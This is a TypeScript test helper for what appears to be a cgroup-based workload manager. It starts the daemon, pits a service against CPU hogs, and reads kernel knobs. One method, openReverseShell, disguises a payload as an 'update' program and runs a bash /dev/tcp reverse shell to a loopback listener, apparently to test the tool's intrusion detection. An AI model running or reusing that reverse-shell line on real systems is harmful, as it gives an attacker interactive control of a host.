import assert from "node:assert/strict";
import { copyFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { TestContext } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { end } from "../src/lab/crew.ts";
import type { Mode } from "../src/core/action.ts";
import { checkHost, type LabHost } from "../src/lab/host-check.ts";
import { readKnobs } from "../src/lab/knobs.ts";
import type { Part } from "../src/lab/lab-groups.ts";
import { openLoopbackSite } from "../src/lab/loopback-site.ts";
import { PAYLOAD_SOURCE } from "../src/lab/payload.ts";
import { programArgv, programFile } from "../src/lab/program.ts";
import { openWorkplace, type Workplace } from "../src/lab/workplace.ts";
import { ApiClient } from "../src/api/client.ts";
import { statePaths } from "../src/core/state-paths.ts";
import { until } from "../src/api/server.fixture.ts";

/** Wakes up 500 times a second and waits for a CPU each time; a builtin, so that it is one process. */
const SERVICE = 'exec 3<> "$0"; while :; do read -r -t 0.002 -u 3; done';
/** Of a service beside busy work nobody can meet it. */
const MISSED_MS = 0.05;
const START_MS = 20_000;

/** What lacks here for a layer that can be asked to change something; undefined where nothing does. */
export function unfit(): string | undefined {
  const host = checkHost();
  return host.ok ? host.value.noDropper : host.says;
}

/** A real layer, its page, and groups of its own to decide about. Everything goes with the test. */
export async function startLiveLayer(
  t: Pick<TestContext, "after">,
  mode: Mode = "advise",
  targetMs = MISSED_MS,
): Promise<LiveLayer> {
  const host = checkHost();
  assert.ok(host.ok);
  const workplace = await openWorkplace(host.value.layout);
  assert.ok(workplace.ok, workplace.ok ? "" : workplace.says);
  t.after(async () => assert.deepEqual(await workplace.value.close(), []));
  const live = new LiveLayer(host.value, workplace.value);
  await live.start(mode, targetMs);
  return live;
}

class LiveLayer {
  link = "";
  private readonly host: LabHost;
  private readonly workplace: Workplace;

  constructor(host: LabHost, workplace: Workplace) {
    this.host = host;
    this.workplace = workplace;
  }

  async start(mode: Mode, targetMs: number): Promise<void> {
    const { crew, stateDir, groups } = this.workplace;
    const config = join(stateDir, "swarms.yaml");
    const workloads = [
      `{ name: service, cgroup: "${groups.path("service")}", kind: latency, targetMs: ${targetMs} }`,
      `{ name: batch, cgroup: "${groups.path("batch")}", kind: batch }`,
    ];
    const leases = "leases: { balanceSeconds: 60 }";
    const all = [
      `mode: ${mode}`,
      "colonies: { immune: { learningHours: 0 } }",
      `scope: ["${groups.root}"]`,
      `workloads: [${workloads.join(", ")}]`,
      leases,
    ];
    writeFileSync(config, [...all, "budget: { shareOfScope: 1 }", ""].join("\n"));
    const main = programFile("../cli/main");
    const argv = [process.execPath, main, "run", "--view", "plain", "--config", config, "--state", stateDir];
    const stdio = ["ignore", "pipe", "pipe"] as const;
    const child = crew.start({ name: "swarms run", argv, orphaned: "TERM", patienceMs: 5000, stdio: [...stdio] });
    let said = "";
    for (const stream of [child.stdout, child.stderr])
      stream?.setEncoding("utf8").on("data", (text: string) => (said += text));
    const linkOf = (): string | undefined => /^dashboard: (http\S+)/m.exec(said)?.[1];
    const endMs = Date.now() + START_MS;
    while (linkOf() === undefined && child.exitCode === null && Date.now() < endMs) await pause(50);
    this.link = linkOf() ?? "";
    assert.notEqual(this.link, "", said);
  }

  /** Of the freeze in force: other incidents of the host are none of this test. */
  async incidentOfFreeze(): Promise<string> {
    const status = await new ApiClient(statePaths(this.workplace.stateDir).socket).status();
    const leases = status.ok ? status.value.leases : [];
    return leases.find(({ kind }) => kind === "freeze")?.incident ?? "";
  }

  /** What the kernel itself says of a group. */
  knobs(part: Part): Readonly<Record<string, string>> {
    return readKnobs(this.host.layout, this.workplace.groups, part);
  }

  async untilKnobs(part: Part, holds: (values: Readonly<Record<string, string>>) => boolean): Promise<void> {
    await until(() => holds(this.knobs(part)));
  }

  /** A service that waits for a CPU beside batch work that takes them all; the function given back ends both. */
  makeServiceWait(): () => Promise<unknown> {
    const { crew, groups, folder } = this.workplace;
    const { cpus, cores } = this.host;
    const service = ["bash", "-c", SERVICE, join(folder, "nothing")];
    const started = Array.from({ length: 2 * cores }, (_, at) => [
      crew.start({ name: "service", argv: service, groups: groups.procsFiles("service"), cpus }),
      crew.start({
        name: "hog",
        argv: programArgv("hog", join(folder, `hog-${at}.count`)),
        groups: groups.procsFiles("batch"),
        cpus,
      }),
    ]).flat();
    return () => Promise.all(started.map((child) => end(child, 1000)));
  }

  /** A program that came a moment ago turns into a shell at a connection, whose far end is this test and says nothing. */
  async openReverseShell(t: Pick<TestContext, "after">): Promise<void> {
    const { crew, groups, folder } = this.workplace;
    const site = await openLoopbackSite({ download: () => undefined, connect: () => undefined });
    t.after(() => site.close());
    const program = join(folder, "update");
    copyFileSync(PAYLOAD_SOURCE, program);
    const script = `exec 3<>/dev/tcp/127.0.0.1/${site.farPort}; exec sh -i <&3 >&3 2>&3`;
    crew.start({ name: "update", argv: [program, "-c", script], groups: groups.procsFiles("app") });
  }
}
